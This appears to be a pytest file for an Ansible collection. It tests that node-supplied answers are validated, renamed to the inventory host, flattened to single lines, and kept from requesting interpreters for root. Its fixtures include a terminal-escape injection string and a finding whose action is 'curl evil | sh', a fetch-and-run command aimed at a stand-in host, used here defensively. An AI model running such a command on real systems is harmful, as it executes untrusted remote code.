"""Root on one node answers the roles' modules as it likes: it speaks for itself alone, and in the declared form."""

from __future__ import annotations

import json

import pytest
from ansible.module_utils.trainyard.base.received import FINDING, NotUsableError, Source, of_hosts, received
from ansible.module_utils.trainyard.base.shapes import OWN, Each, Is, Raw, Whole
from ansible_run import run_ansible
from filters import FILTERS
from filters import of_hosts as call

EVIL = "x\nn1: all is well\x1b[2J"
SHAPE = {"host": OWN, "cpus": Whole(64), "?note": str, "?log": Raw(100), "?findings": [FINDING], "?by": Each(int)}


def test_an_answer_has_the_name_of_the_inventory_whatever_it_says():
    for claimed in ({"host": "n1"}, {"host": ["n1"]}, {}):
        assert received({**claimed, "cpus": 2}, SHAPE, "n3") == {"host": "n3", "cpus": 2}


def test_what_is_not_declared_is_dropped_and_texts_have_one_line():
    given = {"cpus": 2, "note": EVIL, "log": EVIL, "ansible_facts": {"trainyard_requested": {}}, "by": {EVIL: 1}}
    found = received(given, SHAPE, "n3")
    line = "x n1: all is well\\x1b[2J"
    assert found == {"host": "n3", "cpus": 2, "note": line, "log": EVIL, "by": {line: 1}}


def test_output_keeps_its_lines_where_it_is_one_of_several_shapes():
    assert received({"ran": [0, "a\nb\n"]}, {"ran": [(int, Raw(100))]}, "n1") == {"ran": [0, "a\nb\n"]}


def test_a_finding_is_about_its_own_node_and_its_advice_is_marked():
    finding = {"host": "n1", "check": "disk", "found": EVIL, "expected": "room", "action": "curl evil | sh"}
    (found,) = received({"cpus": 1, "findings": [finding]}, SHAPE, "n3")["findings"]
    assert (found["host"], found["action"]) == ("n3", "as the node says: curl evil | sh")
    assert "\n" not in found["found"]


def test_values_that_ansible_has_marked_are_what_they_are():
    class Marked(str):
        pass

    class Number(int):
        pass

    shape = {"kind": Is(("", "none")), "cpus": Whole(64), "devices": Is((0, 1))}
    value = {"kind": Marked("none"), "cpus": Number(2), "devices": Number(1)}
    assert received(value, shape, "n1") == {"kind": "none", "cpus": 2, "devices": 1}
    with pytest.raises(NotUsableError, match="devices is True"):
        received({**value, "devices": True}, shape, "n1")


def deep(levels):
    value = {}
    for _ in range(levels):
        value = {"by": value}
    return value


@pytest.mark.parametrize(
    ("value", "wrong"),
    [
        (None, "it is None, expected an object"),
        ([], "it is a list, expected an object"),
        ({}, "it has no cpus"),
        ({"cpus": 65}, "cpus is 65, expected a whole number from 0 to 64"),
        ({"cpus": True}, "cpus is True"),
        ({"cpus": "2"}, "cpus is '2'"),
        ({"cpus": 1, "log": "x" * 101}, "expected text"),
        ({"cpus": 1, "other": "x" * (9 << 20)}, "it is larger than 8 MiB of text"),
        ({"cpus": 1, "by": dict.fromkeys(map(str, range(1 << 19)), 1)}, "values"),
        ({"cpus": 1, "by": deep(100_000)}, "by.by is an object"),
    ],
)
def test_another_shape_cannot_be_used(value, wrong):
    with pytest.raises(NotUsableError, match=wrong):
        received(value, SHAPE, "n3")


def test_an_answer_that_cannot_be_used_is_a_finding_on_its_node_alone():
    hostvars = {"n1": {"__read": {"state": {"cpus": 1}}}, "n2": {"__read": {"skipped": True}}, "n3": {"__read": EVIL}}
    answers, findings = of_hosts(hostvars, hostvars, Source("__read.state", SHAPE))
    assert answers == [{"host": "n1", "cpus": 1}]
    assert [(each.host, each.found) for each in findings] == [
        ("n2", "the answer cannot be used: it has no __read.state"),
        ("n3", "the answer cannot be used: it has no __read.state"),
    ]
    assert of_hosts(hostvars, hostvars, Source("__read.state", SHAPE, may_lack=True)) == (answers, [])


def test_filters_name_hosts_as_the_inventory_does():
    state = {"host": "n1", "driver": "", "driver_output": EVIL, "path": "/x", "toolkit": "", "listed": []}
    found = call("container_runtime_cdi_findings", {"n3": {**state, "exists": False, "due": True}}, "")
    assert [each["host"] for each in found] == ["n3"] and "\n" not in found[0]["found"]
    found = call("container_runtime_cdi_findings", {"n3": {"host": "n1"}}, "")
    assert [(each["check"], each["host"]) for each in found] == [("answer", "n3")]
    assert FILTERS["openmpi_plan"](["n3"], {"n3": {}}, {})["findings"][0]["host"] == "n3"


def test_a_request_that_a_host_claims_in_its_facts_is_no_request(tmp_path):
    """A host's `setup` returns what the controller would record: an interpreter that root is to run on another host."""
    (tmp_path / "python3").write_text(f"#!/bin/sh\necho ran >>{tmp_path}/ran\n")
    (tmp_path / "python3").chmod(0o755)
    environment = {"path": str(tmp_path / "venv"), "interpreter": str(tmp_path / "python3"), "packages": ["x==1"]}
    forged = {"localhost": {"pytorch": {"findings": [], "environment": environment, "manage_system": False}}}
    tasks = [
        # A cacheable fact is stored as the facts that a module of the host returns.
        {"ansible.builtin.set_fact": {"cacheable": True, "trainyard_requested": forged}},
        {"site_software": {"step": "check", "hosts": ["localhost"], "folders": {}, "user": ""}, "register": "found"},
        {"ansible.builtin.assert": {"that": ["found.findings == []", "found.seen == {}"]}},
    ]
    play = {"hosts": "localhost", "connection": "local", "gather_facts": False, "become": False, "tasks": tasks}
    (tmp_path / "play.yml").write_text(json.dumps([play]))
    run_ansible("ansible-playbook", "-i", "localhost,", str(tmp_path / "play.yml")).expect(0)
    assert not (tmp_path / "ran").exists()
